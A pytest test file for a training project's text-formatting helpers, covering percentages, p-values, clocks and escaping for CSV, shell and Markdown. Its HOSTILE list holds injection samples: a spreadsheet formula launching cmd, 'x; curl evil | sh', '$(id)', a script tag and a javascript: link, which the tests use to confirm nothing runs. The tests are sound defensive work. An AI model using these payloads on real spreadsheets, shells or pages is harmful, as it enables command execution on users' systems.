import math
import os
import shlex
import subprocess
from pathlib import Path

import pytest
from pydantic import TypeAdapter, ValidationError

from cifar_lightning.formatting import (
    clipped,
    clock,
    count,
    counted,
    csv_cell,
    csv_text,
    decimal,
    duration,
    first_of,
    markdown,
    markdown_code,
    percent,
    plural,
    points,
    points_span,
    printable,
    pvalue,
    reason_of,
    run_name,
    shell_line,
    span,
    unbroken,
)


def test_fractions_and_differences():
    assert percent(0.12345) == "12.3 %"
    assert percent(1, 2) == "100.00 %"
    assert span((0.1, 0.256)) == "10.0 to 25.6 %"
    assert points(0.0123) == "+1.2"
    assert points(-0.0001) == points(0.0) == "0.0"
    assert points_span((-0.007, 0.019)) == "-0.7 to +1.9"


def test_a_fraction_below_one_is_not_shown_as_the_whole():
    assert percent(24_999 / 25_000, 2) == "99.996 %"
    assert percent(0.99996) == "99.996 %"
    assert percent(sum([0.1] * 10)) == percent(1.0) == "100.0 %"
    assert percent(0.997, 0) == "100 %"
    assert span((0.99, 0.99999)) == "99.0 to 100.0 %"


def test_zero_has_no_sign():
    assert percent(-0.0) == percent(-1e-9) == "0.0 %"
    assert decimal(-0.0, 4) == decimal(-1e-9, 4) == "0.0000"
    assert span((-1e-9, 0.5)) == "0.0 to 50.0 %"
    assert decimal(-0.5, 1) == "-0.5"


def test_a_confidence_below_one_is_not_shown_as_one_without_a_tolerance():
    shown = {0.5: "50.0 %", 0.9994: "99.9 %", 0.99996: "99.996 %", 1 - 2**-53: "99.99999999999999 %", 1.0: "100.0 %"}
    assert {value: percent(value, tolerance=0) for value in shown} == shown


@pytest.mark.parametrize("nothing", [None, math.nan])
def test_what_has_no_value_is_a_dash(nothing):
    assert percent(nothing) == decimal(nothing, 2) == duration(nothing) == "-"
    assert points(math.nan) == "-"


def test_counts_p_values_and_times():
    assert count(12345) == "12,345"
    assert [pvalue(p) for p in (None, 1e-300, 0.01234, 1.0)] == ["", "p < 0.0001", "p = 0.0123", "p = 1.0000"]
    assert [duration(seconds) for seconds in (12.4, 200, 7300)] == ["12 s", "3.3 min", "2.0 h"]
    assert [counted(number, "dog is", "dogs are") for number in (0, 1, 2)] == [
        "No dogs are",
        "One dog is",
        "2 dogs are",
    ]
    assert [first_of(texts, 2) for texts in ("", "ab", "abc")] == ["", "a, b", "a, b and 1 more"]


def test_what_was_typed_stays_on_one_short_line_and_cannot_steer_a_terminal():
    assert clipped("configs/Bär.yaml") == "configs/Bär.yaml"
    assert clipped("\x1b[31m\n\udcff\u202e") == r"\x1b[31m\n\udcff\u202e"
    assert clipped("a" * 500 + "z" * 500, 80) == "a" * 40 + "..." + "z" * 20


def test_the_reason_of_a_wrong_field_is_one_sentence_with_its_name_and_value():
    with pytest.raises(ValidationError) as wrong:
        TypeAdapter(list[dict[str, int]]).validate_python([{}, {"lr": "x" * 99}])
    reason = reason_of(wrong.value)
    assert reason.startswith("1.lr: ")
    assert reason.endswith(clipped("x" * 99, 40))
    with pytest.raises(ValidationError) as whole:
        TypeAdapter(list[int]).validate_json(b"{")
    assert reason_of(whole.value).startswith("Invalid JSON")
    assert not any("http" in reason_of(each.value) or ": :" in reason_of(each.value) for each in (wrong, whole))


def test_printable_leaves_ordinary_names_and_escapes_the_rest():
    assert printable("Käfer 狗") == "Käfer 狗"
    assert printable("Käfer", "ascii") == "K\\xe4fer"
    assert printable("a\x1b[31m\udcff") == "a\\x1b[31m\\udcff"


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0.4, "0 s"), (59.4, "59 s"), (60, "1:00"), (187.6, "3:08"), (3723, "1:02:03"), (math.inf, "?"), (math.nan, "?")],
)
def test_seconds_read_as_a_clock(seconds, text):
    assert clock(seconds) == text


def test_nouns_are_one_or_several():
    assert [plural(number, "image") for number in (0, 1, 1234)] == ["0 images", "1 image", "1,234 images"]


def test_no_line_breaks_between_a_number_and_its_sign():
    assert unbroken("a 95 % b; p < 0.0001 or p = 1") == "a 95\u00a0% b; p\u00a0<\u00a00.0001 or p\u00a0=\u00a01"
    assert unbroken("up to % here") == "up to % here"


def test_a_run_is_called_by_recipe_and_number_or_its_folder():
    assert run_name(Path("runs/smallnet/1")) == "smallnet/1"
    assert run_name(Path("elsewhere/best run")) == "best run"
    assert run_name(Path("runs/smallnet/1/0")) == "smallnet/1/0"


# -- text from outside -------------------------------------------------------------------------------------------------

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@sum(1)",
    "+1",
    "-1",
    "\t=1",
    "'=1",
    "''@a",
    "x; curl evil | sh",
    "$(id)",
    "a\nb\x1b[2J",
]
HOSTILE += [
    "<script>alert(1)</script>",
    "[a](javascript:x)",
    "`x`",
    "``",
    "b'c",
    "back\\slash",
    "lat\udcff",
    "Käfer 狗",
    "'",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula_and_every_cell_is_read_back(text):
    assert csv_cell(text)[:1] not in tuple("=+-@\t\r")
    assert csv_text(csv_cell(text)) == text


def test_ordinary_cells_stay_as_they_are():
    assert [csv_cell(text) for text in ("cat", "'t Hooft", "a=b", "photos/-1.png")] == [
        "cat",
        "'t Hooft",
        "a=b",
        "photos/-1.png",
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_shell_reads_back_every_word_of_one_line_and_runs_nothing(text):
    line = shell_line("printf", "%s", text)
    assert line.isprintable()
    if text.isprintable():
        assert shlex.split(line) == ["printf", "%s", text]
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
    assert done.stdout == os.fsencode(text)


def test_markdown_shows_text_as_it_is():
    assert markdown("tench, label_smoothing 0.1 (95 %)") == "tench, label_smoothing 0.1 (95 %)"
    assert markdown("[a](javascript:x)") == r"\[a\](javascript:x)"
    assert markdown("<script>|_x_") == r"\<script>\|\_x\_"
    assert markdown("a\n# b https://c.d") == r"a\\n# b https:\//c.d"


@pytest.mark.parametrize(
    ("text", "code"), [("a.onnx", "`a.onnx`"), ("a`b", "``a`b``"), ("`", "`` ` ``"), ("\n", "`\\n`")]
)
def test_code_in_markdown_cannot_be_left(text, code):
    assert markdown_code(text) == code
